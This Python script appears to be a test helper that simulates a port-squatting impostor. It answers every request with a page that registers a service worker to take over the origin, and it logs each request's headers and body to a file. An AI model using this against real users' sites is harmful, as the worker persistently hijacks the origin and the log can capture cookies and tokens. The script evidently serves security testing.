#!/usr/bin/env python3
"""A program of another user that takes the port of a page while its agent is away.

  impostor.py HOST PORT RECORD

It answers every request with a page that registers a service worker, which then answers whatever the browser asks this
address for. It writes what it was sent into the file RECORD, a line of JSON for each request."""

import json
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = """<!doctype html><title>Contacts</title><script>
navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready).then(() => { document.title = "taken"; });
</script>"""
WORKER = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => event.respondWith(
  new Response("<title>taken by the worker</title>", { headers: { "Content-Type": "text/html" } })));
"""


class Handler(BaseHTTPRequestHandler):
    def log_message(self, *_):
        pass

    def answer(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode(errors="replace")
        with open(sys.argv[3], "a") as record:
            record.write(json.dumps({"line": self.requestline, "headers": dict(self.headers.items()), "body": body}) + "\n")
        is_worker = self.path == "/worker.js"
        content = (WORKER if is_worker else PAGE).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if is_worker else "text/html")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = answer


class Server(ThreadingHTTPServer):
    allow_reuse_address = True
    daemon_threads = True


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    server = Server((host, port), Handler)
    print("listening", flush=True)
    server.serve_forever()


if __name__ == "__main__":
    main()
